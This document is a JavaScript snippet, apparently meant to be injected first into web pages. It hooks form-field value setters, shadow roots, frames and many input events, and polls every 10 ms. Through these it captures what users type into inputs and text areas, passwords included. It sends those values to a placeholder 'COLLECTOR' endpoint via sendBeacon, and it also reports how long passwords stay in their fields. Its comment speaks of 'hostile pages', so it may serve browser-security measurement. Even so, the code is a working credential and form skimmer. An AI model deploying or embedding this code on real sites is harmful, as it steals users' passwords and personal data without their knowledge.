// Runs first in every hostile page and tells the sites what each field holds, however it came there and however briefly.
(() => {
  // What the page puts in the place of these is its own business.
  const { stringify } = JSON;
  const typeOf = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "type").get;
  const told = new WeakMap();
  const tell = (entries) => navigator.sendBeacon("COLLECTOR", stringify(entries));
  const entry = (how, field, value) => ({
    how, tag: field.localName, type: field instanceof HTMLInputElement ? typeOf.call(field) : field.localName, name: field.getAttribute("name") ?? "", id: field.getAttribute("id") ?? "",
    connected: field.isConnected, page: location.href, value: String(value),
  });
  const roots = [document];
  const { attachShadow } = Element.prototype;
  // Closed ones are the page's own: it looks into them as well.
  Element.prototype.attachShadow = function (...details) {
    const root = attachShadow.apply(this, details);
    roots.push(root);
    watch(root);
    return root;
  };
  const { querySelectorAll } = Document.prototype;
  const inFragment = DocumentFragment.prototype.querySelectorAll;
  const FIELDS = "input,textarea,select";
  const framed = (here) =>
    Array.from({ length: here.length }, (_, index) => here[index]).flatMap((inside) => {
      try {
        return [...inside.document.querySelectorAll(FIELDS), ...framed(inside)];
      } catch {
        return []; // another origin's
      }
    });
  const fields = () => [
    ...roots.flatMap((root) => [...(root === document ? querySelectorAll : inFragment).call(root, FIELDS)]),
    ...framed(window),
  ];
  const known = new Set();
  const look = (how) => {
    for (const field of fields()) known.add(field);
    const entries = [];
    // Fields that were taken out of the page are still the page's.
    for (const field of known) {
      if (field instanceof HTMLInputElement && /^(hidden|checkbox|radio|submit|button)$/.test(typeOf.call(field))) continue;
      const value = native.get.call(field);
      if (value && told.get(field) !== value) {
        told.set(field, value);
        entries.push(entry(how, field, value));
      }
    }
    if (entries.length) tell(entries);
  };
  const natives = new Map([HTMLInputElement, HTMLTextAreaElement, HTMLSelectElement].map((kind) => [kind, Object.getOwnPropertyDescriptor(kind.prototype, "value")]));
  const native = {
    get() {
      for (const [kind, descriptor] of natives) if (this instanceof kind) return descriptor.get.call(this);
      return "";
    },
  };
  for (const [kind, descriptor] of natives) {
    Object.defineProperty(kind.prototype, "value", {
      ...descriptor,
      set(value) {
        if (value) tell([entry("setter", this, value)]);
        descriptor.set.call(this, value);
      },
    });
  }
  const events = ["input", "beforeinput", "change", "keydown", "keypress", "keyup", "focus", "focusin", "blur", "focusout", "submit", "formdata", "click", "invalid"];
  for (const type of events) addEventListener(type, () => look(type), true);
  // How long a password stands in its field before the form is sent.
  const now = performance.now.bind(performance);
  let written;
  addEventListener("input", ({ target }) => target instanceof HTMLInputElement && typeOf.call(target) === "password" && (written ??= now()), true);
  addEventListener("submit", () => written !== undefined && tell([{ exposed: now() - written, page: location.href }]), true);
  const watch = (root) =>
    new MutationObserver(() => look("mutation")).observe(root, { subtree: true, childList: true, attributes: true, characterData: true });
  watch(document);
  setInterval(() => look("poll"), 10);
})();
